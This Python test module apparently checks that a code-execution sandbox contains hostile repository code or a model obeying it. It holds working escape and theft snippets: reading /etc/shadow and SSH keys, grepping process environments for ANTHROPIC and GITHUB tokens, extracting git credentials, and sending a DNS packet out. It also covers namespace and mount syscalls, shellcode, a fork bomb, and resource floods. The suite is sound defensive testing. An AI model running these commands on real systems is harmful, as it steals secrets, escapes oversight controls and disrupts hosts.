"""Attacks on the sandbox, from inside: what hostile code in a repository, or a model that obeys it, would try."""

from __future__ import annotations

import os
from pathlib import Path

from github_app.core.errors import ToolFailed
from github_app.core.ports import ExecLimits
from tests.adapters.sandbox_room import read_text
from tests.attack.arena import Arena
from tests.attack.cases import attack, python_attack, shell_attack

ROOT_BY_HAND = "a root made by hand, read-only"
SECCOMP = "seccomp filter"
NO_NETWORK = "network namespace without a way out"

shell_attack(
    "S01",
    "write to the system",
    'for f in /usr/bin/evil /etc/cron.d/x /dev/foo /x /etc/passwd; do (echo x > $f) 2>/dev/null && echo "GOT $f"; done',
    stopped_by=ROOT_BY_HAND,
)
shell_attack(
    "S02",
    "read files of the host",
    'for f in /etc/shadow /root /home/*/.ssh /var/lib/honk "$0" "$1" "$2" "$3"; do '
    '{ cat "$f" || ls "$f"; } 2>/dev/null && echo "GOT $f"; done; true',
    stopped_by=ROOT_BY_HAND,
)
shell_attack(
    "S03",
    "secrets in the environment and in /proc",
    "for f in /proc/*/environ /proc/*/task/*/environ; do tr '\\0' '\\n' < $f 2>/dev/null; done "
    "| grep -E 'HONK|ANTHROPIC|GITHUB' | sed 's/^/GOT /'; env | grep -E 'HONK|ANTHROPIC|GITHUB' | sed 's/^/GOT /'",
    stopped_by="empty environment, own /proc",
)
shell_attack(
    "S04",
    "see and signal processes of the host",
    'n=$(ls /proc | grep -c "^[0-9]"); [ $n -gt 8 ] && echo "GOT a view of $n processes"; true',
    stopped_by="process namespace",
)
python_attack(
    "S05",
    "type into the operator's terminal",
    """
import fcntl
for request in (0x5412, 0x5412 | 1 << 32, 0x541C):
    tried(f"ioctl {request:#x}", lambda: checked(libc.ioctl(0, ctypes.c_ulong(request), b"x")))
""",
    stopped_by="seccomp filter, a session of its own",
)
python_attack(
    "S06",
    "reach the network, loopback, metadata, DNS",
    """
port = int(sys.argv[-1])
for address in (("127.0.0.1", port), ("::1", port), ("169.254.169.254", 80), ("1.1.1.1", 443), ("192.0.2.1", 80)):
    def get():
        with socket.create_connection(address, 2) as to:
            to.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            return to.recv(4096)
    tried(f"an answer from {address}", get)
tried("an address by name", lambda: socket.getaddrinfo("example.com", 80))
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as to:
        return to.sendto(b"secret", ("8.8.8.8", 53))
tried("a DNS packet out", ask)
""",
    stopped_by=NO_NETWORK,
)
python_attack(
    "S07",
    "sockets of the machine's other families",
    """
for name, family, kind in (("vsock", 40, 1), ("packet", 17, 3), ("alg", 38, 5), ("bluetooth", 31, 3), ("xdp", 44, 3)):
    tried(name, lambda: socket.socket(family, kind))
""",
    stopped_by=SECCOMP,
)
python_attack(
    "S08",
    "sockets of services on the host",
    """
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket",
             "\\0/tmp/.X11-unix/X0", "\\0honk"):
    def connect():
        with socket.socket(socket.AF_UNIX) as to:
            to.connect(path)
    tried(path, connect)
""",
    stopped_by="a root made by hand, network namespace",
)
python_attack(
    "S09",
    "make namespaces of its own",
    """
for name, flag in (("user", 0x10000000), ("net", 0x40000000), ("mount", 0x20000), ("pid", 0x20000000)):
    tried(f"unshare {name}", lambda: checked(libc.unshare(flag)))
if os.uname().machine == "x86_64":
    tried("clone3", lambda: checked(libc.syscall(435, 0, 0)))
    tried("setns", lambda: checked(libc.setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0)))
""",
    stopped_by=SECCOMP,
)
python_attack(
    "S10",
    "mount, remount, unmount, change the root",
    """
tried("mount", lambda: checked(libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)))
tried("remount", lambda: checked(libc.mount(None, b"/usr", None, 32, None)))
tried("umount", lambda: checked(libc.umount2(b"/work", 2)))
tried("chroot", lambda: os.chroot("/tmp"))
""",
    stopped_by="no capabilities, seccomp filter",
)
python_attack(
    "S11",
    "make devices",
    """
import stat
for path in ("/work/disk", "/tmp/disk"):
    tried(path, lambda: os.mknod(path, stat.S_IFBLK | 0o666, os.makedev(254, 0)))
    tried(path, lambda: os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 1)))
""",
    stopped_by="no capabilities",
)
shell_attack(
    "S12",
    "hard links to files of the system",
    'for f in /usr/bin/id /etc/passwd /proc/1/exe; do ln "$f" /work/stolen 2>/dev/null && echo "GOT $f"; done; true',
    stopped_by="other file systems",
)
shell_attack(
    "S13",
    "become root by a set-uid program",
    "(sudo -n id || su -c id || passwd -d root) 2>/dev/null | grep uid=0 && echo GOT root; "
    'grep -q "NoNewPrivs:.1" /proc/self/status || echo "GOT new privileges"',
    stopped_by="no new privileges",
)


@attack("S14", "leave a set-uid program for users of the host", stopped_by="an unprivileged user of its own")
async def _set_uid(arena: Arena) -> str:
    got = await arena.shell("cp /bin/sh sb && chmod 4755 sb")
    folder = arena.desk.workspaces.root / "workspaces"
    bad = [path for path in folder.rglob("sb") if path.lstat().st_uid == 0 and path.lstat().st_mode & 0o4000]
    return got + "".join(f"GOT root's set-uid {path}" for path in bad)


shell_attack(
    "S16",
    "the host's root through /proc/1",
    'for d in /proc/1/root /proc/1/cwd /proc/self/root; do [ -e "$d$0" ] && echo "GOT $d"; done; true',
    stopped_by="mount and process namespaces",
)
shell_attack(
    "S17",
    "file descriptors left open",
    "for p in 1 self; do for f in /proc/$p/fd/*; do t=$(readlink $f); "
    "case $t in pipe:*|anon_inode:*|/dev/null|/proc/*|'') ;; "
    '*) echo "GOT $t";; esac; done; done',
    stopped_by="descriptors are not inherited",
)
shell_attack(
    "S18",
    "the kernel's own files",
    'for f in /proc/sys/kernel/core_pattern /proc/sysrq-trigger; do (echo x > $f) 2>/dev/null && echo "GOT $f"; done; '
    "(echo -1000 > /proc/self/oom_score_adj) 2>/dev/null && echo GOT oom; "
    "head -c 1 /proc/kcore >/dev/null 2>&1 && echo GOT kcore; ls /sys/class 2>/dev/null && echo GOT /sys; true",
    stopped_by="no capabilities, no /sys",
)
python_attack(
    "S19",
    "the kernel's newest doors",
    """
if os.uname().machine == "x86_64":
    for name, number in (("bpf", 321), ("io_uring", 425), ("perf", 298), ("userfaultfd", 323), ("keyctl", 250)):
        tried(name, lambda: checked(libc.syscall(number, 0, 0, 0, 0, 0)))
""",
    stopped_by=SECCOMP,
)


@attack("S20", "system calls in the numbers of 32-bit programs", stopped_by=SECCOMP)
async def _int80(arena: Arena) -> str:
    if os.uname().machine != "x86_64":
        return ""
    # mov eax, 20 (getpid); int 0x80; ret
    return await arena.python(
        """
import mmap
if os.fork() == 0:
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(bytes.fromhex("b814000000cd80c3"))
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    print("GOT", ctypes.CFUNCTYPE(ctypes.c_int)(address)(), flush=True)
    os._exit(0)
os.wait()
"""
    )


shell_attack(
    "S22",
    "move or remove the mount point of the tree",
    "cd /; (mv /work /tmp/w || rmdir /work) 2>/dev/null && echo GOT it; true",
    stopped_by=ROOT_BY_HAND,
)
python_attack(
    "S23",
    "change network interfaces",
    """
import fcntl
with socket.socket() as any_socket:
    tried("lo down", lambda: fcntl.ioctl(any_socket, 0x8914, struct.pack("16sh14x", b"lo", 0)))
""",
    stopped_by="no capabilities",
)
python_attack(
    "S24",
    "clock, host name, priorities",
    """
import time
tried("clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0))
tried("name", lambda: socket.sethostname("evil"))
tried("priority", lambda: os.setpriority(os.PRIO_PROCESS, 0, -5))
tried("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
""",
    stopped_by="no capabilities",
)


@attack("S25", "pipes and sockets in the tree hang who reads it", stopped_by="regular files only, without waiting")
async def _fifo(arena: Arena) -> str:
    got = await arena.shell("mkfifo pipe; python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('sock')\"")
    for path in ("pipe", "sock"):
        try:
            got += f"GOT {await arena.workspace.read(path)!r}"
        except ToolFailed:
            continue
    return got


@attack("S26", "endless files, deep trees, names that are no names", stopped_by="caps on what is collected")
async def _strange(arena: Arena) -> str:
    await arena.shell(
        "truncate -s 900M sparse; touch -- '--upload-pack=x' \"$(printf 'new\\nline')\" \"$(printf 'esc\\033[2J')\"; "
        "d=.; for i in $(seq 150); do d=$d/d; done; mkdir -p $d; touch $d/f"
    )
    try:
        changes = await arena.workspace.changes()
    except ToolFailed:
        return ""
    return "".join(f"GOT {len(c.content or b'')} bytes" for c in changes.changes if len(c.content or b"") > 50_000_000)


async def _killed(arena: Arena, script: str, wanted: set[str], limits: ExecLimits) -> str:
    result = await arena.workspace.exec(["python3", "-c", script], limits=limits)
    arena.spoils.append(result.output[:10_000])
    if result.killed_by in wanted or "REFUSED" in result.output:
        return ""
    return f"GOT away: {result.killed_by}, exit code {result.exit_code}: {result.output[:200]}"


@attack("S28", "fork bomb", stopped_by="process limit of the kernel")
async def _forks(arena: Arena) -> str:
    script = "import os,time\ntry:\n while True:\n  if os.fork() == 0: time.sleep(60)\nexcept OSError: print('REFUSED')"
    return await _killed(arena, script, {"processes"}, ExecLimits(timeout_s=20, processes=60))


@attack("S29", "all the memory", stopped_by="memory watch")
async def _memory(arena: Arena) -> str:
    script = (
        "import time\nhoard = []\nwhile len(hoard) < 40: hoard.append(b'x' * 2**25); time.sleep(0.02)\nprint('all')"
    )
    return await _killed(arena, script, {"memory"}, ExecLimits(timeout_s=20, memory_bytes=2**28))


@attack("S30", "all the disk", stopped_by="size of temporary file systems, file limit, disk watch")
async def _disk(arena: Arena) -> str:
    script = (
        "import errno, signal\nsignal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "def fill(path):\n try:\n  with open(path, 'wb') as f:\n   for _ in range(400): f.write(bytes(2**20))\n"
        "  return 'all'\n except OSError as e: return 'REFUSED'\n"
        "said = [fill(p) for p in ('/tmp/f', '/dev/shm/f', '/dev/f', '/run/f', '/work/f')]\n"
        "print('all' if 'all' in said else 'REFUSED')"
    )
    limits = ExecLimits(timeout_s=30, memory_bytes=2**28, file_bytes=2**26, disk_bytes=2**28)
    return await _killed(arena, script, {"disk", "memory"}, limits)


@attack("S31a", "endless output", stopped_by="output limit")
async def _flood(arena: Arena) -> str:
    limits = ExecLimits(timeout_s=8, output_bytes=100_000)
    return await _killed(arena, "while True: print('y' * 1000)", {"output"}, limits)


@attack("S31b", "a process that does not want to end", stopped_by="time limit")
async def _deaf(arena: Arena) -> str:
    script = (
        "import signal\nfor n in range(1, 32):\n if n not in (9, 19): signal.signal(n, signal.SIG_IGN)\n"
        "while True: pass"
    )
    return await _killed(arena, script, {"timeout"}, ExecLimits(timeout_s=1))


@attack("S32", "a daemon that outlives its command", stopped_by="process namespace")
async def _daemon(arena: Arena) -> str:
    mark = f"daemon-{arena.port}"
    await arena.shell(
        f"setsid nohup sh -c 'sleep 300; : {mark}' >/dev/null 2>&1 & (sh -c 'sleep 300; : {mark}' &) & true"
    )
    lines = [read_text(path) for path in Path("/proc").glob("[0-9]*/cmdline")]
    return "GOT a daemon" if any(mark in line for line in lines) else ""


@attack("S37", "a link that leads the host's reader out of the tree", stopped_by="openat2: no links, beneath the tree")
async def _links(arena: Arena) -> str:
    await arena.shell('ln -s "$0" key; ln -s / root; ln -s ../../../../.. up; mkdir d; ln -s "$1" d/db; true')
    got = ""
    for path in ("key", f"root{arena.key_file}", "d/db", f"../../../..{arena.key_file}", str(arena.key_file), "up"):
        try:
            content = await arena.workspace.read(path)
        except ToolFailed:
            continue
        arena.spoils.append(content.decode("latin-1"))
        got += f"GOT {path}"
    for change in (await arena.workspace.changes()).changes:
        if arena.find((change.content or b"").decode("latin-1")):
            got += f"GOT {change.path} in the change set"
    return got


@attack("X34", "the read tool sees more than the shell does", stopped_by="one boundary for all tools")
async def _parity(arena: Arena) -> str:
    got = ""
    for path in ("/proc/self/environ", "/proc/1/environ", "/etc/shadow", "../1-2-1/secret.txt", ".git/config"):
        for read in (arena.workspace.read, lambda p: arena.workspace.write(p, b"x")):
            try:
                await read(path)
            except ToolFailed:
                continue
            got += f"GOT {path} "
    return got


shell_attack(
    "X36",
    "a token in git's configuration",
    "git config --list 2>/dev/null | grep -iE 'token|extraheader|credential|://[^/]*@' | sed 's/^/GOT /'; "
    "git remote -v 2>/dev/null | sed 's/^/GOT /'; "
    "printf 'protocol=https\\nhost=github.com\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill 2>/dev/null "
    "| grep password | sed 's/^/GOT /'; true",
    stopped_by="tokens go to one git process, by its environment",
)
